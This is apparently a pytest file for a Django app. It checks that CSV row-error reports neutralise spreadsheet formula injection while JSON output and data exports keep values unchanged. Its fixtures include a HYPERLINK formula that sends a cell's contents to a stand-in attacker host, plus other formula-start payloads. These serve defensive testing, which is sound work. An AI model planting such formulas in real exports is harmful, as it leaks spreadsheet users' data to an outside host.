"""Row-error reports are made for spreadsheets, data exports are not (SPEC §8): in
`row-errors/?format=csv` a cell that a spreadsheet would run as a formula (it starts with `=`,
`+`, `-`, `@`, a tab or a carriage return) gets a leading `'` and every value is quoted;
the rows stream and the Export's file give back the user's own values byte for byte."""

import csv
import io

import pytest

from operations import worker
from operations.models import Operation, RowError
from tests.support import upload_file

S = Operation.State
HYPERLINK = '=HYPERLINK("http://evil.example/"&A2;"x")'
# A formula start in each of the cells a row error has: raw, and (made up) reason.
FORMULA_STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def body_of(response) -> bytes:
    assert response.status_code == 200, getattr(response, "content", b"")
    return b"".join(response.streaming_content)


def errors_url(op_id: int) -> str:
    return f"/api/operations/{op_id}/row-errors/"


@pytest.mark.django_db
def test_formula_cells_of_row_errors_are_neutralised(api, user):
    op = Operation.objects.create(owner=user, state=S.COMPLETED, columns=["a", "b"])
    for line, start in enumerate(FORMULA_STARTS, start=1):
        RowError.objects.create(operation=op, line_number=line, reason=start, raw=f"{start},2,3")
    RowError.objects.create(operation=op, line_number=20, reason="expected 2 fields, found 3", raw=f"{HYPERLINK},2,3")
    RowError.objects.create(operation=op, line_number=21, reason="expected 2 fields, found 1", raw="x;=1+1")

    body = body_of(api.get(errors_url(op.pk), {"format": "csv"}))

    records = list(csv.reader(io.StringIO(body.decode(), newline="")))
    assert records[0] == ["line_number", "reason", "raw"]
    assert records[1:7] == [[str(line), f"'{start}", f"'{start},2,3"] for line, start in enumerate(FORMULA_STARTS, 1)]
    assert records[7] == ["20", "expected 2 fields, found 3", f"'{HYPERLINK},2,3"]
    # Every value quoted: a `;` inside a value never starts a cell, whatever separator the
    # spreadsheet assumes.
    assert body.splitlines()[0] == b"line_number,reason,raw"
    assert body.splitlines()[-2:] == [
        b'"20","expected 2 fields, found 3","\'=HYPERLINK(""http://evil.example/""&A2;""x""),2,3"',
        b'"21","expected 2 fields, found 1","x;=1+1"',
    ]
    # No cell of the report starts a formula.
    assert not [cell for record in records for cell in record if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.django_db
def test_json_lines_of_row_errors_keep_the_raw_text(api, user):
    """JSON lines are read by programs, not spreadsheets: the raw text as it was."""
    op = Operation.objects.create(owner=user, state=S.COMPLETED, columns=["a", "b"])
    RowError.objects.create(operation=op, line_number=2, reason="expected 2 fields, found 3", raw=f"{HYPERLINK},2,3")
    body = body_of(api.get(errors_url(op.pk), {"format": "jsonl"}))
    assert body.decode() == (
        '{"line_number": 2, "reason": "expected 2 fields, found 3", "raw": "'
        + HYPERLINK.replace('"', '\\"')
        + ',2,3"}\n'
    )


@pytest.mark.django_db(transaction=True)
def test_data_exports_give_back_formula_cells_byte_for_byte(api, register):
    """The rows stream and an Export's file are the user's own data: nothing is added to a
    value that starts like a formula; only the rejected row's report neutralises it."""
    content = f'a,b\n=1+1,+2\n"{HYPERLINK.replace(chr(34), chr(34) * 2)}",@x\n-3,\tq\n{HYPERLINK},2,3\n'.encode()
    op_id = register()
    assert api.post("/upload/", {"op_id": op_id, "file": upload_file(content)}).status_code == 202
    worker.work_operation(op_id)
    assert Operation.objects.get(pk=op_id).state == S.COMPLETED
    accepted = b"".join(content.splitlines(keepends=True)[:4])

    assert body_of(api.get(f"/api/operations/{op_id}/rows/", {"format": "csv"})) == accepted

    response = api.post("/register/", {"op_type": "Export", "source": op_id}, format="json")
    export_id = response.json()["op_id"]
    assert api.post(f"/api/operations/{export_id}/start/").status_code == 202
    worker.work_operation(export_id)
    assert body_of(api.get(f"/api/operations/{export_id}/download/")) == accepted

    errors = list(csv.reader(io.StringIO(body_of(api.get(errors_url(op_id), {"format": "csv"})).decode())))
    assert errors[1][0] == "4" and errors[1][2].startswith(f"'{HYPERLINK}")
